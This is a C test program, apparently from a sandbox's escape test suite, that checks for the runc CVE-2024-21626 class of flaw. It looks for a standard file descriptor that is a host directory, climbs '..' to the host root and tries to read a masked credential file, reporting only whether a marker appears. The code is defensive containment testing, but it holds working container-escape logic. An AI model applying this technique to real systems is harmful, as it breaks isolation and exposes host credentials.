/* escape_stdio_dir SECRET MARKER: runc CVE-2024-21626 through stdio: a
 * host directory given to kjail as stdin (or stdout, stderr) is an fd on
 * the host's own mount, outside the sandbox's mount namespace. From it,
 * ".." climbs the host's tree, where no mask hides SECRET (a masked
 * credential file, absolute path) and /run is the host's. Contained if no
 * standard fd is a directory, or the host tree it leads to shows nothing
 * masked. Content is never printed. */
#include <fcntl.h>
#include <sys/stat.h>

#include "escape.h"

int main(int argc, char **argv)
{
	char buf[4096];
	int dirs = 0;

	if (argc != 3 || argv[1][0] != '/')
		BROKEN("usage: escape_stdio_dir /SECRET MARKER");
	for (int fd = 0; fd < 3; fd++) {
		struct stat st, up;
		ssize_t n;
		int top, f;

		if (fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode))
			continue;
		dirs++;
		/* Climb to the top of the tree this fd belongs to. */
		top = openat(fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		for (int i = 0; top >= 0 && i < 64; i++) {
			int next = openat(top, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			if (next < 0 || fstat(top, &st) < 0 || fstat(next, &up) < 0)
				break;
			close(top);
			top = next;
			if (st.st_dev == up.st_dev && st.st_ino == up.st_ino)
				break;
		}
		if (top < 0)
			continue;
		f = openat(top, argv[1] + 1, O_RDONLY | O_CLOEXEC);
		if (f < 0) {
			NOTE("fd %d is a directory; %s from its top: %s", fd, argv[1],
			     errname(errno));
			continue;
		}
		n = read(f, buf, sizeof(buf) - 1);
		close(f);
		buf[n > 0 ? n : 0] = '\0';
		if (n > 0 && strstr(buf, argv[2]))
			ESCAPED("read the masked %s through the host directory on fd %d", argv[1],
				fd);
		NOTE("fd %d is a directory; %s from its top reads %zd bytes, no secret", fd,
		     argv[1], n);
	}
	if (!dirs)
		CONTAINED("no standard fd is a directory");
	CONTAINED("a standard fd is a directory, but nothing masked is reachable through it");
}
